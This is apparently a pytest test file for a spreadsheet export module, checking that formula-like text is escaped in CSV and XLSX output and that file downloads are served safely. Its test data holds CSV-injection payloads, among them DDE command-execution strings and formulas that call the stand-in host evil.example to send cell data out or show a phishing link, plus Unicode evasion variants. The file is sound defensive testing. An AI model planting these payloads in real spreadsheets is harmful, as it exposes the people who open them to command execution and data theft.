"""No cell becomes a formula, and every text is read back unchanged."""

import csv
from datetime import date, time
from io import BytesIO, StringIO

import pytest
from openpyxl import Workbook, load_workbook

from attachments import spreadsheets

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","Pay here")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(A1:A9)",
    "=-1",
    "= 1",
    "==1",
    "=",
    "+1",
    "+cmd|'/C calc'!A0",
    "+41 22 919 41 50",
    "+ 1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mention",
    "\t=1+1",
    "\tSpecimen",
    "\r=1+1",
    "\rSpecimen",
    "\n=1+1",
    "\nSpecimen",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u2003-1",
    "\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2066+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " ＝1",
    "\u3000＋1",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "⁺1",
    "−1",
    "'=1+1",
    "''+1",
    "' -1",
    " " * 500 + "=1",
)
HARMLESS = (
    "",
    "Specimen One",
    "'Utoikamanu",
    "O'Specimen",
    "1-2",
    "a=b",
    "Muestra Dos – «Senado»",
    "محمد عينة",
    "Образец",
    "样本",
    "ናሙና",
    "#N/A",
    "#REF!",
    "<b>bold</b>",
    "é",
)
IN_OTHER_SEPARATORS = (
    "Specimen;=1+1",
    "Specimen\t=1+1",
    "Specimen|+1",
    'Specimen";=1',
    "Specimen\r\n=1",
    "a; ＝1",
)


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_text_that_looks_like_a_formula_is_marked_and_comes_back(text):
    marked = spreadsheets.escape_formula(text)

    assert marked == f"'{text}"
    assert spreadsheets.unescape_formula(marked) == text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_harmless_text_is_left_alone(text):
    assert spreadsheets.escape_formula(text) == text
    assert spreadsheets.unescape_formula(text) == text


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS], ids=ascii)
def test_xlsx_holds_text_as_text_and_gives_it_back(text):
    book = load_workbook(BytesIO(spreadsheets.to_xlsx(("People", [f"{text}x", "b"], [[text, "end"]]))))

    cells = [cell for row in book["People"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    stored = (book["People"]["A2"].value or "").replace("_x000D_", "\r")
    assert spreadsheets.unescape_formula(stored) == text


def begins_formula(cell: str) -> bool:
    """True if a spreadsheet program would evaluate the cell."""
    return not cell.startswith(spreadsheets.MARK) and spreadsheets.escape_formula(cell) != cell


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_csv_marks_cells_and_headers_that_look_like_a_formula(text):
    written = spreadsheets.to_csv([f"{text}x"], [[text]]).decode("utf-8-sig")

    cells = [cell for row in csv.reader(StringIO(written, newline=""), strict=True) for cell in row]
    assert [cell[0] for cell in cells] == ["'", "'"]


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_csv_leaves_harmless_text_alone(text):
    written = spreadsheets.to_csv(["Name"], [[text]]).decode("utf-8-sig")

    assert list(csv.reader(StringIO(written, newline=""), strict=True)) == [["Name"], [text]]


@pytest.mark.parametrize("text", IN_OTHER_SEPARATORS, ids=ascii)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_csv_read_with_another_separator_begins_no_formula(text, separator):
    written = spreadsheets.to_csv(["Name", "Function"], [["Specimen", text]]).decode("utf-8-sig")

    rows = csv.reader(StringIO(written, newline=""), delimiter=separator)
    cells = [cell.strip().strip('"') for row in rows for cell in row]
    assert [cell for cell in cells if begins_formula(cell)] == []


def test_csv_has_the_mark_of_utf_8_and_quotes_every_cell():
    written = spreadsheets.to_csv(["Name", "Count"], [["Muestra “Dos”", 3], [None, 'a "b"']])

    expected = '"Name","Count"\r\n"Muestra “Dos”","3"\r\n"","a ""b"""\r\n'
    assert written == b"\xef\xbb\xbf" + expected.encode()


def test_xlsx_keeps_days_hours_and_numbers_as_such():
    values = [date(1971, 3, 27), time(17, 45), 12, None]
    book = load_workbook(BytesIO(spreadsheets.to_xlsx(("People", list("abcd"), [values]))))

    day, hour, number, nothing = next(book["People"].iter_rows(min_row=2))
    assert (day.value.date(), hour.value, number.value, nothing.value) == tuple(values)


def test_xlsx_leaves_out_what_xml_cannot_hold():
    book = load_workbook(BytesIO(spreadsheets.to_xlsx(("a", ["x"], [["Speci\x00men\x0b\ud800\ufffe"]]))))

    assert book["a"]["A2"].value == "Specimen"


def test_sheet_is_named_within_what_a_name_may_hold():
    book = Workbook()

    assert spreadsheets.add_sheet(book, "'Who: [a/b]? " + "x" * 40).title == "Who   a b   xxxxxxxxxxxxxxxxxxx"


def test_offered_file_is_saved_and_kept_by_no_cache():
    response = spreadsheets.download_response(b"a", "Año.csv", spreadsheets.CSV_TYPE)

    assert response["Content-Disposition"] == "attachment; filename*=utf-8''A%C3%B1o.csv"
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
